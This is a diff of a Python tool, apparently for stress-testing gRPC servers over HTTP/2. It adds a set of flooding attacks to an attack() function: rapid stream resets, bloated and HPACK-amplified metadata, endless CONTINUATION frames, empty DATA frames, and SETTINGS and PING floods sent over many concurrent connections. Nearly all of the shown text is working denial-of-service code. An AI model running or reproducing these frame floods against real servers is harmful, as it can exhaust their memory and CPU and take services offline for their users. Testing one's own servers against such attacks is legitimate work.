@@ -4,13 +4,15 @@ It prints what it has sent.  A program, so that it does not slow down those who 
 """
 
 import collections
+import functools
+import itertools
 import selectors
 import socket
 import struct
 import sys
 import time
 
-DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 CALLS = 60  # of a connection at a time
@@ -34,6 +36,7 @@ def literal(name, value):
     return bytes((0, len(name))) + name.encode() + bytes((len(value),)) + value.encode()
 
 
+@functools.cache
 def head(path, token):
     fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x", "te": "trailers",
               "content-type": "application/grpc"}
@@ -135,9 +138,63 @@ class Messages(Connection):
             self.calls.pop(stream, None)
 
 
+class Frames(Connection):
+    """Frames of one kind, again and again."""
+
+    def __init__(self, address, token, make):
+        super().__init__(address, token)
+        self.make = make
+
+    def more(self):
+        return b"".join(self.make(self) for _ in range(100))
+
+
+def reset(connection):
+    stream = connection.next_stream()
+    return frame(HEADERS, END_HEADERS, stream, head(ONE[stream // 2 % len(ONE)], connection.token)) + \
+        frame(RESET, 0, stream, struct.pack(">I", 8))
+
+
+def much_metadata(connection):
+    fields = b"".join(literal(f"x-{i}", "v" * 100) for i in range(120))
+    return frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), head(ONE[0], connection.token) + fields)
+
+
+def expanding_metadata(connection):
+    """One field of 3 kB, which is then named by one byte 13,000 times."""
+    value = b"v" * 3000
+    fields = b"\x40\x01x\x7f" + bytes((len(value) - 127 & 0x7f | 0x80, len(value) - 127 >> 7)) + value
+    return frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(),
+                 head(ONE[0], connection.token) + fields + b"\xbe" * 13000)
+
+
+def continuation(connection):
+    fields = b"".join(literal(f"x-{i}", "v" * 100) for i in range(140))
+    if connection.stream > 0:
+        return frame(CONTINUATION, 0, connection.stream, fields)
+    return frame(HEADERS, 0, connection.next_stream(), head(ONE[0], connection.token) + fields)
+
+
+def empty_data(connection):
+    if connection.stream > 0:
+        return frame(DATA, 0, connection.stream)
+    return frame(HEADERS, END_HEADERS, connection.next_stream(), head(ONE[0], connection.token))
+
+
+FRAMES = {
+    "metadata": much_metadata, "expanding metadata": expanding_metadata, "continuations": continuation,
+    "empty data": empty_data, "settings": lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)),
+    "pings": lambda _: frame(PING, 0, 0, bytes(8)),
+}
+
+
 def attack(address, name, connections, seconds, token=""):
+    """The name is of MESSAGES or FRAMES, "frames" for all of these, or "resets"."""
+    makes = itertools.cycle(FRAMES.values() if name == "frames" else [FRAMES.get(name, reset)])
+
     def connect():
-        connection = Messages(address, token, *MESSAGES[name])
+        connection = Messages(address, token, *MESSAGES[name]) if name in MESSAGES else \
+            Frames(address, token, next(makes))
         selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
     counts = collections.Counter()
     selector = selectors.DefaultSelector()
